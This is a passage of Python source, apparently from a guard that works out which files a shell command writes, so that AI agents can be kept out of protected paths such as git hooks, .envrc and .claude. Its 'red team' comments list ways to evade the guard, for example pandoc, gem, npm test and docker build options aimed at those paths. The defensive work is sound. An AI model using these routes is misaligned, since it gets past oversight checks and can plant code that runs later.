    **dict.fromkeys(("sed", "gsed"), _SED_LONGS),
    **dict.fromkeys(("awk", "gawk"), ("--include", "--assign", "--field-separator", "--load", "--file",
                                      "--source", "--exec")),
    **dict.fromkeys(_TARS, ("--extract", "--get", "--directory", "--file", "--index-file")),
    "cpio": ("--extract", "--directory", "--pass-through"),
    **dict.fromkeys(("patch", "gpatch"), ("--directory", "--output", "--input")),
    **dict.fromkeys(("sort", "split", "csplit"), ("--output", "--prefix")),
    **dict.fromkeys((*_DECOMPRESSORS, *_COMPRESSORS), _ZIP_LONGS),
    "curl": (*_CURL_FILE_OPTIONS, "--remote-name", "--remote-name-all", "--remote-header-name"),
    "wget": ("--output-document", "--output-file", "--append-output", "--directory-prefix", "--recursive",
             "--mirror", "--content-disposition", "--trust-server-names"),
    **dict.fromkeys(("touch", "truncate"), ("--reference", "--size", "--date")),
    **{pip: _PACKAGE_DIRS["pip"] for pip in _PIP},
}  # fmt: skip
# ... and the output options of the builders, report tools and converters whose parser abbreviates (argparse,
# optparse, getopt_long, Perl's Getopt::Long, Ruby's OptionParser, Haskell's GetOpt, autoconf's configure):
# `coverage html --direc .husky`, `pandoc -s x.md --out=.envrc`, `gem install --bind .git/hooks x`
_ABBREVIATING_WRITERS = frozenset(
    "gpg gpg2 pandoc iconv aria2c http https coverage bandit pyinstrument pdoc pyinstaller nuitka meson configure"
    " cpanm gem cloc asciidoctor jekyll pdm nox".split()
)
for _verb in _ABBREVIATING_WRITERS:
    _files, _dirs = _BUILD_OUTPUTS.get(_verb, (frozenset(), frozenset()))
    _named = (
        *_files,
        *_dirs,
        *_OUTPUT_OPTIONS.get(_verb, ("", ()))[1],
        *_DIR_OPTIONS.get(_verb, ("", ()))[1],
    )
    _ABBREVIATED[_verb] = tuple(sorted(o for o in _named if o[:2] == "--"))


def _unabbreviated(verb: str, view: tuple[str, ...]) -> list[tuple[str, ...]]:
    """The readings of ``view`` with its abbreviated long options written out (_ABBREVIATED), one per option
    an abbreviation may be (the others written as their first); none when no word abbreviates one."""
    longs = _ABBREVIATED.get(verb)
    if longs is None:
        return []
    choices: list[tuple[int, str, list[str]]] = []
    for k in range(1, len(view)):
        w = view[k]
        if w == "--":
            break
        if w[:2] != "--" or len(w) < 3:
            continue
        name, eq, value = w.partition("=")
        if name in longs:
            continue
        found = [n + eq + value for n in longs if n.startswith(name)]
        if found:
            choices.append((k, name, found))
    out: list[tuple[str, ...]] = []
    for k, _, found in choices:
        for word in found:
            words = list(view)
            for j, _, first in choices:
                words[j] = first[0]
            words[k] = word
            out.append(tuple(words))
    return out


def targets(view: tuple[str, ...]) -> list[Target]:
    """What one view of a segment writes (see the module's docstring). The verb may be given as a path; a long
    option it abbreviates is read written out too (_ABBREVIATED)."""
    if not view:
        return []
    found = _targets(view)
    verb = view[0].rpartition("/")[2]
    if verb in _ABBREVIATED:
        for reading in _unabbreviated(verb, view):
            found.extend(t for t in _targets(reading) if t not in found)
    return found


def _converted(view: tuple[str, ...]) -> list[Target]:
    """_CONVERTERS' output: the last word (ImageMagick's `FORMAT:file`, ffmpeg's `file:NAME`: also the file after the
    coder's name) and `-o`'s value."""
    last = [(view[-1], NAMED)] if len(view) > 2 and view[-1][:1] != "-" else []
    coder, colon, named = view[-1].partition(":")
    if last and colon and coder.isalnum() and named:
        last.append((named, NAMED))
    # red team: ImageMagick's `-write F` (and `+write F`) writes the image so far to F, mid-line
    last.extend((view[k + 1], NAMED) for k in range(1, len(view) - 1) if view[k] in ("-write", "+write"))
    return last + [(v, NAMED) for v in _option_values(view, "o", ("--output",))]


def _uniq(view: tuple[str, ...]) -> list[Target]:
    ops = _operands(view, _UNIQ_VALUED)
    return [(ops[1], NAMED)] if len(ops) > 1 else []


# The verbs _targets hands to a reader of their own.
# red team (R3.7): Codex's apply_patch, in its own format (`*** Begin Patch`, `*** Add File: P`, `*** Update File: P`
# then `*** Move to: Q`, `*** Delete File: P`, `*** End Patch`), given as its argument or -- as Codex's shell tool
# writes it -- a here-document: the files each line names (protected_paths reads a here-document's); a patch it
# cannot read rewrites any file of the tree.
PATCH_TOOLS = frozenset({"apply_patch", "applypatch"})
_PATCH_FILE = re.compile(r"^\*\*\* *(?:Add File|Update File|Delete File|Move to) *: *(.*?)\s*$", re.M | re.I)


def patch_files(text: str) -> list[str] | None:
    """The files an apply_patch patch in ``text`` writes, or None when ``text`` holds no such patch."""
    if "*** begin patch" not in text.lower():
        return None
    return [f for f in _PATCH_FILE.findall(text) if f]


def _apply_patch(view: tuple[str, ...]) -> list[Target]:
    files = patch_files("\n".join(view[1:]))
    return [(".", WHOLE)] if files is None else [(f, NAMED) for f in files]


_READ_BY_VERB: dict[str, Callable[[tuple[str, ...]], list[Target]]] = {
    "dd": lambda view: [(w[3:], NAMED) for w in view[1:] if w.startswith("of=")],
    **dict.fromkeys(PATCH_TOOLS, _apply_patch),
    "uniq": _uniq,
    **dict.fromkeys(_CONVERTERS, _converted),
}


def _targets(view: tuple[str, ...]) -> list[Target]:
    verb = view[0].rpartition("/")[2]
    if verb in _NAMED_OPERANDS:
        return [(o, NAMED) for o in _operands(view, _VALUED_BY_VERB.get(verb, _NAMED_VALUED))]
    if verb in _TREE_OPERANDS:
        return [(o, TREE) for o in _operands(view, _TREE_VALUED)]
    if verb in _COPIERS:
        return _copier(verb, view)
    if verb in _IN_PLACE:
        return _in_place(verb, view)
    reader = _READ_BY_VERB.get(verb)
    if reader is not None:
        return reader(view)
    if verb in _EXTRACTORS:
        return _extract(verb, view)
    if verb in _DECOMPRESSORS or (
        verb in _COMPRESSORS and _has_flag(view, "d", ("--decompress", "--uncompress"))
    ):
        out: list[Target] = []
        for o in _operands(view, _DECOMPRESS_VALUED):
            stem = next((o[: -len(s)] for s in _SUFFIXES if o.endswith(s) and len(o) > len(s)), o)
            out.append((stem, NAMED))
        return out + [(v, NAMED) for v in _option_values(view, "o", ("--output",))]
    if verb in _COMPRESSORS:
        return [(o + ".gz", NAMED) for o in _operands(view)] + [(o, TREE) for o in _operands(view)]
    if verb == "git":
        return _git(view)
    if verb == "curl":
        return _curl(view)
    if verb == "wget":
        return _wget(view)
    if verb in _OUTPUT_VERBS:
        out = [(v, NAMED) for v in _option_values(view, "o", ("--output", "--prefix"))]
        if verb in ("split", "csplit"):
            ops = _operands(view, _SPLIT_VALUED)
            out.extend((o, NAMED) for o in ops[1:])
            out.extend((v, NAMED) for v in _option_values(view, "f", ()))
        return out
    if verb in ("patch", "gpatch"):  # (red team: GNU patch as BSD and macOS name it)
        dest = _option_values(view, "d", ("--directory",)) or ["."]
        ops = _operands(
            view,
            frozenset(
                {
                    "-p",
                    "-i",
                    "--input",
                    "-o",
                    "--output",
                    "-d",
                    "--directory",
                    "-B",
                    "-r",
                    "-F",
                    "-D",
                    "-V",
                    "-z",
                }
            ),
        )
        return (
            [(d, TREE) for d in dest]
            + [(o, NAMED) for o in ops[:1]]
            + [(v, NAMED) for v in _option_values(view, "o", ("--output",))]
        )
    if verb == "find":
        return _find(view)
    if verb in ("xargs", "parallel"):
        # The command's operands come from the input: names no word spells, in the working folder.
        return [(".", TREE)] if any(w.rpartition("/")[2] in _INPUT_WRITERS for w in view[1:]) else []
    return _named_by_their_words(verb, view)


def _named_by_their_words(verb: str, view: tuple[str, ...]) -> list[Target]:
    """_targets' rest: the writers read by their subcommands, options and settings."""
    # (all of the first two: red team, a folder option before the settings' act, `npm --prefix sub config set`)
    found = (
        _module_and_folder_targets(verb, view) + _config_targets(verb, view)
        or _more_targets(verb, view)
        or _assigned_targets(verb, view)
        or _handed_to_a_script(verb, view)
    )
    if verb in SETTINGS_WRITERS:
        found = found + settings_targets(verb, view)
    return found


# `go env -w` settings that choose the programs a later go command runs (go's own settings file is in R3.7's
# table): the C toolchain cgo runs, the Go toolchain's folder, flags that run a program for every tool.
_GO_ENV_PROGRAMS = BUILD_TOOL_VARS | {"GOROOT", "GOENV", "GCCGO"}
_GO_RUNNING_FLAGS = ("toolexec", "exec=", "vettool", "overlay")


def _go_env_writes(view: tuple[str, ...]) -> list[Target]:
    """`go env -w NAME=VALUE ...`: go's settings file when a setting chooses a program, and the install folder
    GOBIN/GOPATH names. Other settings stay what they were (a user-level setting, machine.py)."""
    out = _assigned_dirs(view, _INSTALL_DIR_VARS, True)
    for w in view[3:]:
        name, _, value = w.partition("=")
        if name in _GO_ENV_PROGRAMS or (name == "GOFLAGS" and any(f in value for f in _GO_RUNNING_FLAGS)):
            out.append(("~/.config/go/env", NAMED))
            break
    return out


def _build_outputs(verb: str, view: tuple[str, ...]) -> list[Target]:
    """What a compiler, bundler or builder is told to write (_BUILD_OUTPUTS), before ``--``."""
    files, dirs = _BUILD_OUTPUTS[verb]
    out: list[Target] = []
    if verb == "go" and len(view) > 2 and view[1] == "env" and "-w" in view:
        out.extend(_go_env_writes(view))
    n = len(view)
    for k in range(1, n):
        w = view[k]
        if w[:1] != "-":
            continue
        if w == "--":
            break
        if w in files or w in dirs:
            if k + 1 < n:
                out.append((view[k + 1], NAMED if w in files else TREE))
            continue
        cut = min((i for i in (w.find("="), w.find(":")) if i > 0), default=-1)
        name, value = (w[:cut], w[cut + 1 :]) if cut > 0 else (w[:2], w[2:])
        if cut < 0 and (w[1:2] == "-" or len(w) < 3):
            continue  # a long option without a value, or a bare letter
        if name in files:
            out.append((value, NAMED))
        elif name in dirs or (verb == "protoc" and name.endswith("_out")):
            out.append((value, TREE))
        elif cut > 0 and w[:2] in files and w[1:2] != "-":
            out.append((w[2:], NAMED))  # `-o=x` is `-o` with `=x` attached for getopt: the name holds the `=`
        elif w[1:2] != "-" and verb in _BUILD_LETTERS:
            found = _short_value(view, k, _BUILD_LETTERS[verb])
            if found is not None:  # `tree -fo F`, `gcc -co F`, `ruff check -qo=F`
                out.append((found[1].removeprefix("="), NAMED if "-" + found[0] in files else TREE))
    return out


# pytest's ini settings that name a path, given as `-o NAME=PATH` (the cache folder, the log file)
_PYTEST_INI_PATHS = {"cache_dir": TREE, "log_file": NAMED}


def option_at(view: tuple[str, ...], k: int) -> tuple[str, str]:
    """The option at ``view[k]`` and its value: `--name=value`, or `--name value`."""
    name, eq, value = view[k].partition("=")
    return name, value if eq or k + 1 == len(view) else view[k + 1]


def _report_values(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The report paths that ride inside a value (_REPORT_OUTPUTS): pytest's `--cov-report TYPE:PATH` (html and
    annotate write a folder), `-o NAME=PATH` / `--override-ini NAME=PATH`, vitest's `--outputFile.REPORTER`."""
    out: list[Target] = []
    for k in range(1, len(view)):
        w = view[k]
        if w == "--":
            break
        if w[:1] != "-":
            continue
        name, value = option_at(view, k)
        if verb == "vitest":
            if name.startswith("--outputFile."):
                out.append((value, NAMED))
        elif name == "--cov-report":
            kind, _, path = value.partition(":")
            if path:
                out.append((path, TREE if kind in ("html", "annotate") else NAMED))
        elif name in ("-o", "--override-ini") or w[1:2] != "-":
            if name in ("-o", "--override-ini"):
                setting = value
            else:  # `-ocache_dir=D`, `-qo cache_dir=D`
                found = _short_value(view, k, "o")
                if found is None:
                    continue
                setting = found[1]
            key, _, path = setting.partition("=")
            if key.strip() in _PYTEST_INI_PATHS:
                out.append((path, _PYTEST_INI_PATHS[key.strip()]))
    return out


# [beyond] R3.7, red team: the words a package manager hands a project's script (`npm test -- --outputFile=.envrc`,
# `pnpm test -o .husky/pre-commit`, `yarn lint --output-file .git/hooks/pre-commit`) reach a program no rule
# reads -- whatever the script runs: each may be a path it writes, an operand or an option's `=` value.
_SCRIPT_RUNNERS = frozenset({"npm", "pnpm", "yarn", "bun"})
_SCRIPT_RUNS = frozenset({"test", "t", "tst", "start", "stop", "restart"})  # (and `run SCRIPT`)
_RUN_SCRIPT = frozenset({"run", "run-script", "rum", "urn"})
_NPM_RUNS = _SCRIPT_RUNS | _RUN_SCRIPT
# pnpm's, yarn's and bun's own commands; another first word names a script (`pnpm lint`, `yarn build`)
_PM_BUILTINS = frozenset(
    "add install i ci update up upgrade upgrade-interactive remove rm uninstall un link ln unlink import rebuild rb "
    "prune fetch install-test it patch patch-commit patch-remove audit list ls ll la outdated why licenses exec "
    "dlx x create init env config c get set store publish pack deploy server setup bin root doctor recursive "
    "cat-file cat-index find-hash self-update approve-builds ignored-builds dedupe help completion info "
    "workspace workspaces node cache npm plugin version constraints explain global owner policies tag team "
    "unplug login logout check autoclean generate-lock-entry stage search sdks build pm repl".split()
)


# an option whose name says it takes a place (`-o`, `--outputFile`, `--reportDir`, `--cache-location`, `--log`)
_PLACE_OPTION = re.compile(
    r"^-[oOdDf]$|out|file|dir|path|report|log|cache|dest|target|prefix|root|location", re.IGNORECASE
).search
_EXPANDS = re.compile("[$`]").search


def _handed_from(verb: str, view: tuple[str, ...]) -> int:
    """Where the words a package manager hands a project's script begin in ``view`` (its length: none)."""
    n = len(view)
    k = 1
    while k < n and (view[k][:1] == "-" or verb == "npm" and view[k] not in _NPM_RUNS):
        k += 1  # the subcommand, past global options (npm's may take a value: `npm --prefix app test`)
    if k >= n - 1:
        return n
    sub = view[k]
    if sub in _RUN_SCRIPT:  # past the script's name (`bun run --filter '*' deploy`: what follows `*`)
        k += 1
        while k < n and view[k][:1] == "-":
            k += 1
        return k + 1
    if sub in _SCRIPT_RUNS or (verb != "npm" and sub not in _PM_BUILTINS):
        return k + 1
    return n


def handed_words(verb: str, view: tuple[str, ...]) -> tuple[str, ...]:
    """The words a package manager (``verb``, as written or its name) hands a project's script in ``view`` (none:
    not such a run). may_write does not read them: protected_paths asks whether one may name a protected file
    before it reads them as writes."""
    if len(view) < 3 or verb not in _SCRIPT_RUNNERS:
        return ()
    return view[_handed_from(verb, view) :]


def _handed_to_a_script(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The words handed to a project's script, as paths it may write. A word spelt by a substitution or a variable
    is the script's input, not a place (`npm test -- $(git ls-files '*.test.ts')`, `--testNamePattern "$P"`, R4.7),
    but not as the value of an option named for a place (`--outputFile=$(…)`, `-o "$F"`): no one knows that one."""
    out: list[Target] = []
    place = False
    for w in handed_words(verb, view):
        if w[:1] == "-":
            name, eq, value = w.partition("=")
            if eq and (_PLACE_OPTION(name) is not None or not _EXPANDS(value)):
                out.append((value, NAMED))
            place = not eq and _PLACE_OPTION(name) is not None
        else:
            if place or not _EXPANDS(w):
                out.append((w, NAMED))
            place = False
    return out


def _outputs(verb: str, view: tuple[str, ...]) -> list[Target]:
    """What a build, test, lint or report tool is told to write (_BUILD_OUTPUTS)."""
    if verb == "go":  # go's flags take one dash or two (`go build --o F`, `go test --coverprofile=F`)
        return _build_outputs(verb, tuple(w[1:] if w[:2] == "--" and len(w) > 2 else w for w in view))
    if verb in _PYTESTS or verb == "vitest":
        return _build_outputs(verb, view) + _report_values(verb, view)
    return _build_outputs(verb, view)


def _assigned_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The install folders assigned before a command (env's, export's) or on make's line (_INSTALL_DIR_VARS), and
    the files a variable assigned before it names (_WRITTEN_FILE_VARS)."""
    if "=" in view[0] or view[0] in _ASSIGNERS:
        files = [(f, NAMED) for f, _ in _assigned_dirs(view, _WRITTEN_FILE_VARS, False)]
        return _assigned_dirs(view, _INSTALL_DIR_VARS, False) + files
    if verb in ("make", "gmake"):
        return _assigned_dirs(view, _MAKE_DIR_VARS, True)
    return []


def _more_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """[beyond] R3.7, red team: the writers named by their options or by a subcommand (see _OUTPUT_OPTIONS)."""
    out: list[Target] = []
    if verb in _BUILD_OUTPUTS:
        out.extend(_outputs(verb, view))
    if verb in _OUTPUT_OPTIONS:
        out.extend((v, NAMED) for v in _option_values(view, *_OUTPUT_OPTIONS[verb]))
    if verb in _SINGLE_DASH_OUTPUTS:
        names = _SINGLE_DASH_OUTPUTS[verb]
        out.extend((view[k + 1], NAMED) for k in range(1, len(view) - 1) if view[k] in names)
        # red team: openssl's parser also takes `-out=F` (and `--out=F`)
        out.extend(
            (v, NAMED)
            for n, eq, v in (w.lstrip("-").partition("=") for w in view[1:])
            if eq and "-" + n in names
        )
    if verb in _IN_PLACE_FLAGS and _has_flag(view, *_IN_PLACE_FLAGS[verb]):
        out.extend((o, NAMED) for o in _operands(view))
    if verb in _DIR_OPTIONS:
        out.extend((v, TREE) for v in _option_values(view, *_DIR_OPTIONS[verb]))
    if verb in _SERVER_NAMED and not out:
        out.extend(_server_named(verb, view))
    if verb in _CONTAINER_COPIERS and "cp" in view[1:3]:
        ops = _operands(view)
        if len(ops) > 2 and ":" not in ops[-1]:
            out.append((ops[-1], TREE))  # `docker cp c:/x .envrc`, `kubectl cp pod:/x .npmrc`
    if verb == "cmake":
        out.extend(_cmake_prefixes(view))
    if verb == "cmake" and len(view) > 3 and view[1] == "-E":
        if view[2] in _CMAKE_COPIES:
            out.append((view[-1], TREE))
        elif view[2] in _CMAKE_WRITES:
            out.extend((o, TREE) for o in view[3:])
    out.extend(_unnamed_targets(verb, view))
    family = _FAMILY_TARGETS.get(verb)
    if family is not None:
        out.extend(family(verb, view))
    return out


def _unnamed_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The writers whose names no word spells: the renamers by an expression, the patch appliers by a patch."""
    if verb in ("rename", "prename", "file-rename"):
        return [(".", TREE)]  # the new names come from an expression: anywhere in the folder
    if verb in _PATCH_APPLIERS or verb == "wiggle":
        return _patch_applied(verb, view)
    return []


def _server_named(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The folder a downloader of _SERVER_NAMED writes a file into by a name the server chooses (see there)."""
    if not _operands(view):
        return []  # no address: `aria2c --version`
    if verb != "aria2c" and not _has_flag(view, *_SERVER_NAMED[verb]):
        return []
    return [(".", TREE)]


def _zipped(verb: str, view: tuple[str, ...]) -> list[Target]:
    ops = _operands(view, frozenset({"-b", "-n", "-t", "-tt", "-x", "-i", "-P", "-O", "--out"}))
    out = [(o, NAMED) for o in ops[:1]]  # the archive
    out.extend((v, NAMED) for v in _option_values(view, "O", ("--out",)))
    if _has_flag(view, "m", ("--move",)):  # red team: `zip -rm A.zip .github` deletes what it adds
        out.extend((o, TREE) for o in ops[1:])
    return out


def _renamed(verb: str, view: tuple[str, ...]) -> list[Target]:
    return [(o, TREE) for o in (_operands(view) or ["."])]


def _home_written(verb: str, view: tuple[str, ...]) -> list[Target]:
    return [("~", TREE)] if len(view) > 1 and not _HOME_WRITERS[verb].isdisjoint(view[1:3]) else []


def _stowed(verb: str, view: tuple[str, ...]) -> list[Target]:
    if _has_flag(view, "n", ("--no", "--simulate")):
        return []
    return [(d, TREE) for d in (_option_values(view, "t", ("--target",)) or [".."])]


def _cloud_copied(verb: str, view: tuple[str, ...]) -> list[Target]:
    if verb == "az":
        if "download" in view or "download-batch" in view:
            return [(v, TREE) for v in _option_values(view, "fd", ("--file", "--destination"))]
        return []
    depth, subs = _CLOUD_COPIES[verb]
    if len(view) <= depth or view[depth] not in subs:
        return []
    ops = [o for o in _operands(view) if o not in subs and o != "s3"]
    if len(ops) < 2 or "://" in ops[-1]:
        return []
    dest = ops[-1]
    if view[depth] in ("sync", "rsync") or _has_flag(view, "rR", ("--recursive",)):
        return [(dest, TREE)]  # names the bucket holds
    if dest in (".", "..") or dest.endswith("/"):
        return [(_join(dest, _base(src)), NAMED) for src in ops[:-1]]
    return [(dest, NAMED)]


def _edited(verb: str, view: tuple[str, ...]) -> list[Target]:
    return [(o, NAMED) for o in _operands(view)]


def _replaced_by(verb: str, view: tuple[str, ...]) -> list[Target]:
    return _replaced(view, *_REPLACERS[verb])


def _layer_written(verb: str, view: tuple[str, ...]) -> list[Target]:
    """What a desktop file layer's act writes (_LAYER_ACTS, _GVFS_ACTS): its first word that names an act (past
    the program's options, a valued one's value too: `kioclient5 --platform offscreen move`), or the program's
    own name."""
    acts = _LAYER_ACTS.get(verb)
    if acts is None:
        return _layer_act(_GVFS_ACTS[verb], view)
    k = next((j for j in range(1, len(view)) if view[j] in acts), 0)
    return _layer_act(acts[view[k]], view[k:]) if k else []


def _layer_path(word: str) -> str | None:
    """A file layer's operand as a path here: `file:///x` is `/x`; another scheme's address (`trash:/`,
    `https://x`, `smb://`) none (a drive letter, `C:/x`, is a path)."""
    if word.startswith("file://"):
        return word[7:] or "/"
    scheme = word.split("/", 1)[0]
    return None if scheme.endswith(":") and len(scheme) > 2 else word


def _layer_act(act: str, rest: tuple[str, ...]) -> list[Target]:
    """`save F` (and gio's `set`), `mkdir F...`, `copy|move SRC... DST`, `remove F...` (a trash's too)."""
    paths = [_layer_path(o) for o in _operands(rest)]
    if act == "save":
        return [(o, NAMED) for o in paths[:1] if o]
    if act == "mkdir":
        return [(o, NAMED) for o in paths if o]
    if act == "remove":
        return [(o, TREE) for o in paths if o]
    out = [(paths[-1], TREE)] if paths and paths[-1] else []
    return out + ([(o, TREE) for o in paths[:-1] if o] if act == "move" else [])


def _unpacked(verb: str, view: tuple[str, ...]) -> list[Target]:
    """Where an unpacker of _UNPACKERS (or `python -m zipfile -e` / `-m tarfile -e`) writes: the folder an
    option or an operand names, the working one by default (the archive names the files)."""
    if verb.startswith(_PYTHONS_PREFIX):
        module = "zipfile" if "zipfile" in view else "tarfile"
        k = view.index(module)
        rest = view[k + 1 :]
        if not ("-e" in rest or "--extract" in rest):
            return []
        ops = _operands((module, *rest), frozenset({"--metadata-encoding", "--filter"}))
        return [(ops[1] if len(ops) > 1 else ".", TREE)]
    unpacks, folders = _UNPACKERS[verb]
    # (an act that is an option may end a cluster, `xar -xf`; one that is a word is that word: `zpaq x`, not `zpaq
    # a xfiles.zpaq`)
    dashed = tuple(a for a in unpacks if a[:1] == "-")
    if unpacks and not any(w in unpacks or (w[:1] == "-" and w.startswith(dashed)) for w in view[1:3]):
        if not (verb == "bsdcpio" and _has_flag(view, "ip", ("--extract", "--pass-through"))):
            return []
    shorts = "".join(o[1] for o in folders if len(o) == 2)
    named = _option_values(view, shorts, tuple(o for o in folders if o[:2] == "--"))
    named += [view[k + 1] for k in range(1, len(view) - 1) if view[k] in folders and len(view[k]) > 2]
    if verb == "bsdcpio" and _has_flag(view, "p", ("--pass-through",)):
        named += _operands(view)[-1:]
    return [(d, TREE) for d in (named or ["."])]


def _unpacked_by_key(verb: str, view: tuple[str, ...]) -> list[Target]:
    """Where an archiver of _KEYED_UNPACKERS writes: the working folder's tree when its key extracts."""
    key = view[1].lstrip("-") if len(view) > 1 else ""
    return [(".", TREE)] if key[:1] in ("x", "e") else []


def _patch_applied(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The working tree a patch applier of _PATCH_APPLIERS (or wiggle told to replace the file it merges into)
    rewrites, whole: the patch names the files."""
    if verb == "wiggle":
        replaces = any(w == "--replace" or (w[:1] == "-" and w[1:2] != "-" and "r" in w) for w in view[1:])
        return [(".", WHOLE)] if replaces else []
    acts, valued = _PATCH_APPLIERS[verb]
    skip = False
    for w in view[1:]:
        if skip:
            skip = False
        elif w[:1] == "-":
            skip = w in valued  # (`hg -R . import`; `--cwd=.` holds its value)
        else:
            return [(".", WHOLE)] if w in acts else []
    return []


def _replaced(
    view: tuple[str, ...],
    before: int,
    writing: tuple[str, ...],
    dry: tuple[str, ...],
    valued: frozenset[str],
    default: str,
) -> list[Target]:
    """What a search-and-replace tool of _REPLACERS rewrites: the paths after its pattern words (every one a
    tree: `rpl -R`, a folder given to fastmod), or the folder it works in when it names none."""
    words = set(view[1:])
    if (writing and words.isdisjoint(writing)) or not words.isdisjoint(dry):
        return []
    if view[0].rpartition("/")[2] == "replace":  # MySQL's `replace FROM TO [FROM TO ...] -- FILE...`
        paths = list(view[view.index("--") + 1 :]) if "--" in view else []
        return [(p, TREE) for p in paths]
    ops = _operands(view, valued)[before:]
    dirs = _option_values(view, "d", ("-d", "--dir", "-directory"))
    if view[0].rpartition("/")[2] == "comby" and not dirs:
        ops.append(default)  # its words after the templates may be file suffixes (`.json`): the folder counts
    if not ops and not dirs:
        return [(default, TREE)] if default else []
    return [(p, TREE) for p in (*ops, *dirs)]


def _operand_written(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The files the programs of _OPERAND_WRITERS write (see there)."""
    if verb == "xxd":
        ops = _operands(view, _XXD_VALUED)
        return [(ops[1], NAMED)] if len(ops) > 1 else []
    if verb == "script":
        logs = _option_values(view, "IOBT", ("--log-in", "--log-out", "--log-io", "--log-timing"))
        return [(o, NAMED) for o in (*_operands(view, _SCRIPT_VALUED), *logs)]
    if verb == "mktemp":
        ops = _operands(view, frozenset({"-p", "--suffix"}))
        into = _option_values(view, "p", ("--tmpdir",))
        return [(o, NAMED) for o in ops] + [(d, TREE) for d in into]
    if verb == "ssh-keygen":
        if _has_flag(view, "lyLBF"):
            return []  # reads a key (-l, -y, -L, -B) or looks a host up (-F)
        return [(f, NAMED) for v in _option_values(view, "f", ()) for f in (v, v + ".pub")]
    if verb == "uudecode":
        named = _option_values(view, "o", ("--output-file",))
        return [(v, NAMED) for v in named] if named else [(".", TREE)]  # the input names the file
    # dasel: `put`/`delete` (v1 and v2) rewrite the -f file, or write -o
    if "put" in view or "delete" in view:
        return [(v, NAMED) for v in _option_values(view, "fo", ("--file", "--out"))]
    return []


# red team: the families _more_targets reads by their program's name (see each table above).
# (the cloners whose folder, when none is named, is named after what they fetch)
_NAMED_AFTER_THE_SOURCE = frozenset({"gh", "hg", "svn"})


def _scaffolded(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The folder a cloner or scaffolder is told to fill (_SCAFFOLDS; none for another program)."""
    for act, (at, valued) in _SCAFFOLDS.get(verb, {}).items():
        if view[1 : 1 + len(act)] == act:
            words = view[len(act) :]
            if verb == "gh" and "--" in words:
                words = words[
                    : words.index("--")
                ]  # (git clone's own flags follow: `gh repo clone o/r -- --depth 1`)
            ops = _operands(words, valued)
            if len(ops) > at:
                return [(ops[at], TREE)]
            if ops and at == 1 and verb in _NAMED_AFTER_THE_SOURCE:
                # red team: no folder named -- the one named after the source (`svn export URL/.github`, `hg clone
                # URL/.claude`, `gh repo clone org/.github`), as git clone's is
                name = ops[0].rstrip("/").rpartition("/")[2].rpartition(":")[2]
                name = name[: -len(".git")] if name.endswith(".git") and verb == "gh" else name
                return [(name, TREE)] if name else []
            return []
    return _initialized(verb, view) if verb in _LAUNCH_ACTS else []


def _initialized(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The folders an initializer launched by its package's name (``create-*``, scoped or with a version:
    `@vue/create-app`, `create-next-app@latest`) may fill: each of its operands and each of its options' `=`
    values, as a tree -- which one names the folder is the package's own reading (fail closed). The first word
    after the launcher's options is the package (`npx -p create-vite create-vite DIR`: the `-p` value, the same
    package)."""
    n = len(view)
    k = 1
    acts = _LAUNCH_ACTS.get(verb)
    if acts is not None:  # `npm exec`, `pnpm dlx`, `yarn dlx`, `bun x`, past the manager's own flags
        while k < n and view[k][:1] == "-":
            k += 1
        if k >= n or view[k] not in acts:
            return []
        k += 1
    while k < n and view[k][:1] == "-":
        k += 1  # the launcher's options (`-y`, `--package=create-vite`, `--`)
    if k >= n or not view[k].rpartition("/")[2].startswith("create-"):
        return []
    out: list[Target] = []
    for w in view[k + 1 :]:
        value = w.partition("=")[2] if w[:1] == "-" else w
        if value:
            out.append((value, TREE))
    return out


# [beyond] R3.7, red team: the container engines write the archive or the build output an option names --
# `docker save -o .envrc img`, `docker export -o F c`, `docker build -o .git/hooks .` (a stage's files copied
# out: `type=local,dest=DIR`, `type=tar,dest=F`, or a bare folder), `docker compose config -o F`.
_ENGINES = frozenset({"docker", "podman", "nerdctl"})
_ENGINE_OUTPUTS = frozenset({"save", "export", "build", "config"})


def _engine_outputs(verb: str, view: tuple[str, ...]) -> list[Target]:
    if _ENGINE_OUTPUTS.isdisjoint(view[1:4]):
        return []
    out: list[Target] = []
    for value in _option_values(view, "o", ("--output",)):
        dest = next((part[5:] for part in value.split(",") if part.startswith("dest=")), None)
        if dest is not None:
            out.append((dest, TREE))
        elif "=" not in value and value != "-":
            out.append((value, TREE))
    return out


def _formatted(verb: str, view: tuple[str, ...]) -> list[Target]:
    """What a formatter of _FORMATTERS rewrites: its operands, when its words make it write."""
    names = {w.partition("=")[0] for w in view[1:]}
    for sub, writing, dry in _FORMATTERS[verb]:
        if tuple(view[1 : 1 + len(sub)]) != sub:
            continue
        if (writing is not None and names.isdisjoint(writing)) or not names.isdisjoint(dry):
            return []
        out: list[Target] = []
        for o in _operands(view[len(sub) :]):
            if not _PATHSPEC_GLOB.isdisjoint(o):
                o = o[: min(o.find(c) for c in _PATHSPEC_GLOB if c in o)].rpartition("/")[0]
            if o and o not in (".", "./"):
                out.append((o, TREE))
        return out
    return []


FORMATTERS = frozenset(_FORMATTERS)  # (runs_a_written_file: a format keeps what a file does)


_FAMILY_TARGETS: dict[str, Callable[[str, tuple[str, ...]], list[Target]]] = {
    **dict.fromkeys(_FORMATTERS, _formatted),
    **dict.fromkeys(_ENGINES, _engine_outputs),
    **dict.fromkeys(_SCAFFOLDS, _scaffolded),
    **dict.fromkeys(_LAUNCHERS, _initialized),
    **dict.fromkeys(_UNPACKERS, _unpacked),
    **dict.fromkeys(_KEYED_UNPACKERS, _unpacked_by_key),
    **dict.fromkeys(_RENAMERS, _renamed),
    **dict.fromkeys(_HOME_WRITERS, _home_written),
    **dict.fromkeys((*_CLOUD_COPIES, "az"), _cloud_copied),
    **dict.fromkeys(_EDITORS, _edited),
    **dict.fromkeys(_REPLACERS, _replaced_by),
    **dict.fromkeys(_OPERAND_WRITERS, _operand_written),
    **dict.fromkeys((*_LAYER_ACTS, *_GVFS_ACTS), _layer_written),
    "zip": _zipped,
    **dict.fromkeys(_FDS, _fd),
    "stow": _stowed,
}


def _code_setting(rest: tuple[str, ...], base: str) -> list[Target]:
